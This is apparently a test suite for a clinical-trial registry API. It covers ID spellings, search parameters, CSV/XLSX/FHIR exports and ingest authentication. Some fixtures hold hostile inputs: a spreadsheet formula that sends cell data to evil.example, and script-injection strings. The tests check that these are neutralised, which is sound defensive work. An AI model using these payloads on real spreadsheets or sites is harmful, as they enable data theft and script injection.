/**
 * The serving side as outside clients call it: any spelling of a registration id (case, EU country suffix, an
 * unencoded `/`), the ClinicalTrials.gov v2 parameters beyond the SPEC's (query.outc/spons/locn/id, filter.ids,
 * NA, fields), every export `what` over HTTP, spreadsheet-safe CSV, FHIR ids and JSON without empty arrays, and
 * an OpenAPI document that lists what is actually served. Own store, so the counts of api.test.ts stay put.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { SqliteStore } from '../store/sqlite/store.js';
import { emptyRegistration, type Registration } from '../model/registration.js';
import { loadFixtures } from '../search/__fixtures__/registrations.js';
import { indexRegistrations } from '../search/index.js';
import { linkIncremental } from '../link/index.js';
import { buildApp } from './server.js';
import { KNOWN_PARAMS } from './params.js';

let dir: string;
let store: SqliteStore;
let app: FastifyInstance;

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

function extra(): Registration[] {
  const ctri = emptyRegistration('CTRI/2020/04/024773', 'CTRI', { url: 'http://ctri.nic.in/Clinicaltrials/pmaindet2.php?trialid=43230' });
  ctri.titles.public = `${FORMULA} Ayurveda for COVID-19`;
  ctri.conditions = ['COVID-19'];
  ctri.sponsor.primary = '@SUM(1+1) Ministry of AYUSH';
  ctri.countries = ['India'];
  ctri.dates = { ...ctri.dates, start: '2020-05-01', completion: '2020-04-01' };
  ctri.contacts = [{ name: 'Dr A', role: null, affiliation: null, email: null, phone: null }];
  const slctr = emptyRegistration('SLCTR/2020/011', 'SLCTR');
  slctr.titles.public = 'Zinc in Sri Lanka';
  slctr.conditions = ['COVID-19'];
  return [ctri, slctr];
}

before(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'ta-conv-'));
  store = new SqliteStore(path.join(dir, 't.db'));
  await loadFixtures(store);
  const regs = extra();
  await store.putBatch(regs, { file: 'extra.ndjson', format: 'fixture', exportedAt: null, ingestedAt: '2026-11-23T00:00:00Z' });
  await linkIncremental(store, regs.map((r) => r.id));
  await indexRegistrations(store, regs.map((r) => r.id));
  app = await buildApp({ store });
});
after(async () => {
  await app.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

async function get(url: string) {
  const r = await app.inject({ method: 'GET', url });
  return { status: r.statusCode, headers: r.headers, body: r.body, raw: r.rawPayload, json: () => JSON.parse(r.body) };
}
const ids = async (qs: string) => (await get(`/api/v1/studies?${qs}&pageSize=100`)).json().studies.map((s: { primaryId: string }) => s.primaryId).sort();

test('a study, its similar trials, a registration and its versions by the EU country-suffixed id, in any case', async () => {
  for (const id of ['EUCTR2020-001162-12-FR', 'euctr2020-001162-12-it', '2020-001162-12']) {
    const s = await get(`/api/v1/studies/${id}`);
    assert.equal(s.status, 200, id);
    assert.ok(s.json().registrationIds.includes('EUCTR2020-001162-12'), id);
    assert.equal((await get(`/api/v1/studies/${id}/similar`)).json().id, 'EUCTR2020-001162-12', `${id}: the id it resolved to`);
    assert.equal((await get(`/api/v1/studies/${id}?format=json`)).status, 200, 'format=json as ClinicalTrials.gov clients send it');
    const r = await get(`/api/v1/registrations/${id}`);
    assert.equal(r.status, 200, id);
    assert.equal(r.json().id, 'EUCTR2020-001162-12');
    assert.equal((await get(`/api/v1/registrations/${id}?version=1`)).status, 200, id);
    assert.equal((await get(`/api/v1/registrations/${id}/versions`)).json().id, 'EUCTR2020-001162-12');
  }
  assert.equal((await get('/api/v1/registrations/nct04252118')).json().id, 'NCT04252118');
  const missing = await get('/api/v1/registrations/EUCTR2099-000000-00-FR');
  assert.equal(missing.status, 404);
  assert.match(missing.json().reason, /EUCTR2099-000000-00-FR/);
  assert.match((await get('/api/v1/registrations/euctr2020-001162-12-fr?version=7')).json().reason, /no version 7/);
});

test('ids with an unencoded slash reach the study, similar, registration and versions routes', async () => {
  for (const id of ['CTRI/2020/04/024773', 'ctri/2020/04/024773', 'SLCTR/2020/011']) {
    assert.equal((await get(`/api/v1/studies/${id}`)).status, 200, id);
    assert.equal((await get(`/api/v1/studies/${id}/similar?limit=2`)).status, 200, id);
    assert.equal((await get(`/api/v1/registrations/${id}?version=1`)).status, 200, id);
    assert.equal((await get(`/api/v1/registrations/${id}/versions`)).status, 200, id);
  }
  const none = await get('/api/v1/studies/CTRI/2099/01/000001');
  assert.equal(none.status, 404);
  assert.match(none.json().reason, /no registration with id "CTRI\/2099\/01\/000001"/);
});

test('ClinicalTrials.gov v2 parameters: query.outc, query.spons, query.locn, query.id, filter.ids, phase NA', async () => {
  assert.deepEqual(await ids('query.outc=hospitalisation'), ['IRCT20200405046953N1']);
  assert.deepEqual(await ids('query.spons=AYUSH'), ['CTRI/2020/04/024773']);
  assert.deepEqual(await ids('query.locn=India'), ['CTRI/2020/04/024773']);
  assert.deepEqual(await ids('query.id=DRKS00021238'), ['DRKS00021238']);
  assert.deepEqual(await ids('filter.ids=DRKS00021238,ISRCTN83971151'), ['DRKS00021238', 'ISRCTN83971151']);
  assert.deepEqual(await ids('query.term=vitamin&filter.ids=DRKS00021238,ISRCTN83971151'), ['ISRCTN83971151']);
  assert.deepEqual(await ids('filter.phase=NA'), await ids('filter.phase=not_applicable'));
  assert.deepEqual(await ids('filter.overallStatus=COMPLETED|NOT_YET_RECRUITING'), await ids('filter.overallStatus=COMPLETED,NOT_YET_RECRUITING'), 'CT.gov pipe lists');
  assert.deepEqual(await ids('filter.ids=DRKS00021238|ISRCTN83971151'), ['DRKS00021238', 'ISRCTN83971151']);
  assert.deepEqual(await ids('filter.advanced=AREA[Condition]respiratory'), ['DRKS00021238']);
  assert.deepEqual(await ids('query.patient=tocilizumab'), ['EUCTR2020-001162-12']);
  assert.deepEqual(await ids('query.lead=AYUSH&markupFormat=markdown'), ['CTRI/2020/04/024773']);
  assert.deepEqual(await ids('postFilter.overallStatus=COMPLETED'), await ids('filter.overallStatus=COMPLETED'));
  assert.deepEqual(await ids('filter.registry=IRCT,ISRCTN&postFilter.overallStatus=COMPLETED&postFilter.ids=ISRCTN83971151'), ['ISRCTN83971151'], 'ANDed');
  const unknown = (await get('/api/v1/studies?query.trem=x')).json();
  assert.equal(unknown.reason, 'unknown parameter "query.trem"', 'no query position for a parameter name');
});

test('pageSize as at ClinicalTrials.gov: 0 is the default 10, above 1000 is coerced to 1000', async () => {
  const zero = await get('/api/v1/studies?pageSize=0');
  assert.equal(zero.status, 200);
  assert.equal(zero.json().studies.length, Math.min(10, zero.json().totalCount));
  assert.equal((await get('/api/v1/studies?pageSize=0&pageSize=3')).json().studies.length, 3);
  assert.equal((await get('/api/v1/studies?pageSize=2')).json().studies.length, 2);
  const big = await get('/api/v1/studies?pageSize=5000');
  assert.equal(big.status, 200);
  assert.equal(big.json().studies.length, big.json().totalCount, 'all 12 fit in the coerced 1000');
  assert.equal((await get('/api/v1/studies?pageSize=-3')).status, 400);
});

test('fields= picks fields by our names or ClinicalTrials.gov piece names, in JSON and CSV', async () => {
  const b = (await get('/api/v1/studies?filter.ids=DRKS00021238&fields=NCTId,BriefTitle,phase')).json();
  assert.deepEqual(Object.keys(b.studies[0]), ['primaryId', 'title', 'phase']);
  assert.equal(b.studies[0].primaryId, 'DRKS00021238');
  const csv = await get('/api/v1/studies?filter.ids=DRKS00021238&fields=primaryId,OverallStatus&format=csv');
  assert.equal(csv.body.split(/\r?\n/)[0], 'primaryId,status');
  const bad = await get('/api/v1/studies?fields=colour');
  assert.equal(bad.status, 400);
  assert.match(bad.json().reason, /fields: "colour"/);
});

test('export over HTTP: every what, and a format a what lacks is a 400 JSON error, not a broken stream', async () => {
  const ch = await get('/api/v1/export?what=changes&format=ndjson&query.id=IRCT20200405046953N1');
  assert.equal(ch.status, 200);
  const rows = ch.body.trim().split('\n').map((l) => JSON.parse(l));
  assert.ok(rows.some((r) => r.registrationId === 'IRCT20200405046953N1' && r.field === 'status.recruitment'));
  for (const k of ['registrationId', 'field', 'before', 'after', 'fromSnapshot', 'toSnapshot']) assert.ok(k in rows[0], k);
  const chars = await get('/api/v1/export?what=characteristics&format=csv&per=study&filter.ids=NCT04252118');
  assert.equal(chars.status, 200);
  assert.equal((parse(chars.body, { columns: true }) as unknown[]).length, 1);
  const ris = await get('/api/v1/export?what=characteristics&format=ris');
  assert.equal(ris.status, 400);
  assert.match(ris.json().reason, /ris is not available for --what characteristics/);
  assert.equal((await get('/api/v1/export?what=everything')).status, 400);
});

test('CSV and XLSX exports neutralise text a spreadsheet would run as a formula', async () => {
  const csv = await get('/api/v1/export?format=csv&filter.registry=CTRI');
  const [row] = parse(csv.body, { columns: true }) as Record<string, string>[];
  assert.equal(row!.public_title, `'${FORMULA} Ayurveda for COVID-19`);
  assert.equal(row!.primary_sponsor, "'@SUM(1+1) Ministry of AYUSH");
  const page = await get('/api/v1/studies?format=csv&filter.registry=CTRI&fields=title,sponsor');
  const [hit] = parse(page.body, { columns: true }) as Record<string, string>[];
  assert.ok(hit!.title!.startsWith("'="), hit!.title);
  assert.ok(hit!.sponsor!.startsWith("'@"), hit!.sponsor);
  const xlsx = await get('/api/v1/export?format=xlsx&filter.registry=CTRI');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(xlsx.raw as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const header = (ws.getRow(1).values as unknown[]).slice(1);
  const title = ws.getRow(2).getCell(header.indexOf('public_title') + 1).value;
  assert.equal(title, `'${FORMULA} Ayurveda for COVID-19`);
});

test('FHIR: registry ids map to valid FHIR ids and still resolve, whatever way they are written', async () => {
  for (const [given, fid] of [['CTRI-2020-04-024773', 'CTRI-2020-04-024773'], ['CTRI/2020/04/024773', 'CTRI-2020-04-024773'],
    ['SLCTR-2020-011', 'SLCTR-2020-011'], ['EUCTR2020-001162-12-FR', 'EUCTR2020-001162-12'], ['nct04252118', 'NCT04252118']]) {
    const r = await get(`/fhir/ResearchStudy/${given}`);
    assert.equal(r.status, 200, given);
    const rs = r.json();
    assert.equal(rs.id, fid, given);
    assert.match(rs.id, /^[A-Za-z0-9\-.]{1,64}$/);
  }
  const s = (await get('/fhir/ResearchStudy?_id=SLCTR-2020-011')).json();
  assert.equal(s.total, 1);
  assert.equal(s.entry[0].resource.identifier[0].value, 'SLCTR/2020/011');
});

/** Every array in a FHIR JSON document, with its path, when it is empty (FHIR JSON forbids them). */
function emptyArrays(x: unknown, at = '$'): string[] {
  if (Array.isArray(x)) return x.length ? x.flatMap((v, i) => emptyArrays(v, `${at}[${i}]`)) : [at];
  if (x && typeof x === 'object') return Object.entries(x).flatMap(([k, v]) => emptyArrays(v, `${at}.${k}`));
  return [];
}

test('FHIR JSON: no empty arrays, a period that does not end before it starts, searchset focus and _summary=count', async () => {
  const rs = (await get('/fhir/ResearchStudy/SLCTR-2020-011')).json();
  assert.deepEqual(emptyArrays(rs), []);
  const ctri = (await get('/fhir/ResearchStudy/CTRI-2020-04-024773')).json();
  assert.deepEqual(emptyArrays(ctri), []);
  assert.deepEqual(ctri.period, { start: '2020-05-01' }, 'completion before start is left out');
  assert.deepEqual(ctri.contact, [{ name: 'Dr A' }]);
  const empty = (await get('/fhir/ResearchStudy?title=zzzqqq')).json();
  assert.equal(empty.total, 0);
  assert.deepEqual(emptyArrays(empty), []);
  const count = (await get('/fhir/ResearchStudy?condition=COVID-19&_summary=count')).json();
  assert.ok(count.total > 2);
  assert.equal(count.entry, undefined);
  assert.equal((await get('/fhir/ResearchStudy?focus=tocilizumab')).json().entry[0].resource.id, 'EUCTR2020-001162-12');
  const none = await get('/fhir/ResearchStudy?status=disapproved,closed-to-accrual-and-intervention');
  assert.equal(none.status, 200, 'a valid R4 code nothing has: an empty searchset, not an error');
  assert.equal(none.json().total, 0);
  const bad = await get('/fhir/ResearchStudy?status=sleeping');
  assert.equal(bad.status, 400);
  assert.equal(bad.json().resourceType, 'OperationOutcome');
  const many = (await get('/fhir/ResearchStudy?_count=5000')).json();
  assert.equal(many.resourceType, 'Bundle', '_count above 1000 returns at most 1000, not an error');
  assert.equal(many.entry.length, many.total);
});

/** Full paths from fastify's route tree (`└── api/v1/studies (GET, HEAD)` / `│   ├── /:id (GET, HEAD)`). */
function servedRoutes(tree: string): string[] {
  const stack: string[] = [];
  const out: string[] = [];
  for (const line of tree.split('\n')) {
    const m = /^((?:│ {3}| {4})*)(?:├── |└── )(\S+) \(([^)]*)\)/.exec(line);
    if (!m) continue;
    const depth = m[1]!.length / 4;
    stack.length = depth;
    stack.push(m[2]!);
    out.push(stack.join('').replace(/\/\/+/g, '/'));
  }
  return out;
}

test('OpenAPI lists every API and FHIR route actually served, and every parameter /studies accepts', async () => {
  const doc = (await get('/api/v1/openapi.json')).json();
  const documented = new Set(Object.keys(doc.paths).map((p) => p.replace(/\{(\w+)\}/g, ':$1')));
  const served = servedRoutes(app.printRoutes({ commonPrefix: false })).filter((r) => /^\/(api|fhir)\//.test(r) && !r.endsWith('*'));
  assert.ok(served.length >= 12, served.join(' '));
  for (const r of served) assert.ok(documented.has(r), `${r} is served but not in openapi.json`);
  const names = new Set(doc.paths['/api/v1/studies'].get.parameters.map((x: { name: string }) => x.name));
  for (const k of KNOWN_PARAMS) {
    if (['what', 'per', 'limit', 'by', 'version'].includes(k)) continue; // parameters of other endpoints
    assert.ok(names.has(k), `studies parameter ${k} undocumented`);
  }
  const exportWhat = doc.paths['/api/v1/export'].get.parameters.find((x: { name: string }) => x.name === 'what');
  assert.deepEqual(exportWhat.schema.enum, ['registrations', 'studies', 'characteristics', 'changes']);
});

test('POST /api/v1/ingest: a minimal record is completed to the canonical shape, linked, indexed and served; hostile text stays inert', async () => {
  const admin = await buildApp({ store, adminToken: 'tok-123' });
  try {
    const rec = {
      id: 'NCT09999997', registry: 'ClinicalTrials.gov', conditions: ['=1+1'],
      titles: { public: '<script>alert(1)</script> " onmouseover="alert(2)" x=" quokka' },
      source: { url: 'javascript:alert(3)' },
    };
    const post = (payload: unknown) => admin.inject({ method: 'POST', url: '/api/v1/ingest', payload: payload as object, headers: { authorization: 'Bearer tok-123' } });
    const ok = await post([rec, { ...rec, id: 'NCT09999996', sponsor: ['not', 'an', 'object'] }]);
    assert.equal(ok.statusCode, 200, ok.body);
    assert.deepEqual({ ...JSON.parse(ok.body), rejected: JSON.parse(ok.body).rejected.length }, { new: 1, changed: 0, unchanged: 0, rejected: 1 });
    const padded = await post([{ ...rec, id: '  NCT09999995\n', titles: { public: 'Padded id' } }]);
    assert.equal(JSON.parse(padded.body).new, 1);
    assert.equal((await get('/api/v1/registrations/NCT09999995')).json().id, 'NCT09999995', 'stored without the padding');
    const stored = (await get('/api/v1/registrations/NCT09999997')).json();
    assert.deepEqual(stored.sponsor, { primary: null, secondary: [], collaborators: [], type: null });
    assert.deepEqual(await ids('query.term=quokka'), ['NCT09999997']);
    const page = await get('/study/NCT09999997');
    assert.equal(page.status, 200);
    assert.doesNotMatch(page.body, /<script>alert/);
    assert.doesNotMatch(page.body, /" onmouseover=/);
    assert.doesNotMatch(page.body, /href="javascript:/i);
    assert.match(page.body, /&quot; onmouseover=&quot;alert\(2\)&quot;/);
    const list = await get('/?query.term=quokka');
    assert.doesNotMatch(list.body, /<script>alert|" onmouseover=|href="javascript:/i);
    const csv = parse((await get('/api/v1/export?format=csv&query.id=NCT09999997')).body, { columns: true }) as Record<string, string>[];
    assert.equal(csv[0]!.conditions, "'=1+1");
  } finally {
    await admin.close();
  }
});

test('study pages by any spelling of an id: EU country suffix, lower case, unencoded slash', async () => {
  for (const id of ['EUCTR2020-001162-12-FR', 'euctr2020-001162-12', 'CTRI/2020/04/024773', encodeURIComponent('ctri/2020/04/024773'), 'SLCTR/2020/011']) {
    const r = await get(`/study/${id}`);
    assert.equal(r.status, 200, id);
  }
  const none = await get('/study/CTRI/2099/01/000001');
  assert.equal(none.status, 404);
  assert.match(none.body, /CTRI\/2099\/01\/000001/);
});

test('POST /api/v1/ingest checks the token before it reads the body: a bad body without the token is 401/403, not 400', async () => {
  const admin = await buildApp({ store, adminToken: 'tok-123' });
  try {
    const garbage = { method: 'POST' as const, url: '/api/v1/ingest', payload: '{not json', headers: { 'content-type': 'application/json' } };
    const anon = await admin.inject(garbage);
    assert.equal(anon.statusCode, 401);
    assert.equal(JSON.parse(anon.body).status, 401);
    assert.equal((await admin.inject({ ...garbage, headers: { ...garbage.headers, authorization: 'Bearer nope' } })).statusCode, 401);
    assert.equal((await app.inject(garbage)).statusCode, 403, 'read-only server');
    const bad = await admin.inject({ ...garbage, headers: { ...garbage.headers, authorization: 'Bearer tok-123' } });
    assert.equal(bad.statusCode, 400, 'with the token, a malformed body is the client\'s error');
    assert.equal(JSON.parse(bad.body).status, 400);
  } finally {
    await admin.close();
  }
});

test('the search page\'s export links carry only parameters the export endpoint takes', async () => {
  const r = await get('/?query.term=vitamin&utm_source=mail&fields=title&pageSize=5');
  assert.equal(r.status, 200);
  const hrefs = [...r.body.matchAll(/href="(\/api\/v1\/export[^"]*)"/g)].map((m) => m[1]!.replace(/&amp;/g, '&'));
  assert.ok(hrefs.length >= 4);
  for (const h of hrefs) {
    assert.doesNotMatch(h, /utm_source|fields=|pageSize=/, h);
    assert.equal((await get(h)).status, 200, h);
  }
});

test('FHIR bundles from /api/v1/export have absolute fullUrls that resolve on this server', async () => {
  const b = JSON.parse((await get('/api/v1/export?format=fhir&filter.registry=CTRI')).body);
  assert.equal(b.type, 'collection');
  const url = new URL(b.entry[0].fullUrl);
  assert.equal(url.pathname, '/fhir/ResearchStudy/CTRI-2020-04-024773');
  assert.equal((await get(url.pathname)).json().id, 'CTRI-2020-04-024773');
});

test('FHIR search by _id returns the resource with that id, also for a registration that is not its study\'s lead; identifier takes EU suffixes', async () => {
  const s = (await get('/fhir/ResearchStudy?_id=ChiCTR2000029990')).json();
  assert.equal(s.total, 1);
  assert.equal(s.entry[0].resource.id, 'ChiCTR2000029990', 'not the lead NCT04252118');
  assert.ok(s.entry[0].resource.identifier.some((i: { value: string }) => i.value === 'NCT04252118'));
  const both = (await get('/fhir/ResearchStudy?_id=ChiCTR2000029990,DRKS00021238')).json();
  assert.deepEqual(both.entry.map((e: { resource: { id: string } }) => e.resource.id).sort(), ['ChiCTR2000029990', 'DRKS00021238']);
  const eu = (await get('/fhir/ResearchStudy?identifier=https://www.clinicaltrialsregister.eu|EUCTR2020-001162-12-FR')).json();
  assert.equal(eu.total, 1);
  assert.equal(eu.entry[0].resource.id, 'EUCTR2020-001162-12');
});
